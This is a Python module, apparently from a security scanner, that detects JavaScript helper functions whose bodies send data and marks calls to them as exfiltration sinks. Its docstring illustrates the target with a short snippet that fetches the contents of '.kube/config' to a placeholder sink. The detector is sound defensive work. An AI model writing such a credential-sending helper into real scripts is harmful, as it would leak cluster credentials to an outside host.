"""A JavaScript script's own functions that send: calls of them are sinks for the flow walk (flow.js_flows).

`async function ship(data) { await fetch(SINK, {body: data}); }` then `ship(grab('.kube/config'))`: the call
sends what it is given as surely as a `fetch` on that line would.
"""

from __future__ import annotations

import re

from skillkeeper.check.scan.lazyre import lazy

_JS_FUNC = lazy(
    r"^\s*(?:export\s+)?(?:async\s+)?function\s+([A-Za-z_$][\w$]*)\s*\(|^\s*(?:const|let|var)\s+([A-Za-z_$][\w$]*)\s*=\s*(?:async\s*)?(?:\([^)\n]*\)|[A-Za-z_$][\w$]*)\s*=>"
)


def sink_helpers(lines: list[str], sink: re.Pattern[str]) -> tuple[re.Pattern[str] | None, set[int]]:
    """Calls of the script's own functions whose body sends (`ship(data)` that fetches): sinks, with the
    definitions' line indexes (where the call is not made)."""
    names: list[str] = []
    inside: set[int] = set()
    for index, line in enumerate(lines):
        m = _JS_FUNC.match(line)
        if m is None:
            continue
        depth, body = 0, []
        for j in range(index, min(index + 15, len(lines))):
            body.append(j)
            depth += lines[j].count("{") - lines[j].count("}")
            if depth <= 0 and (j > index or "=>" in lines[j]):
                break
        if any(sink.search(lines[j]) for j in body):
            names.append(m.group(1) or m.group(2))
            inside.update(body)
    if not names:
        return None, inside
    return re.compile(r"(?<![\w$.])(?:" + "|".join(map(re.escape, names)) + r")\s*\("), inside
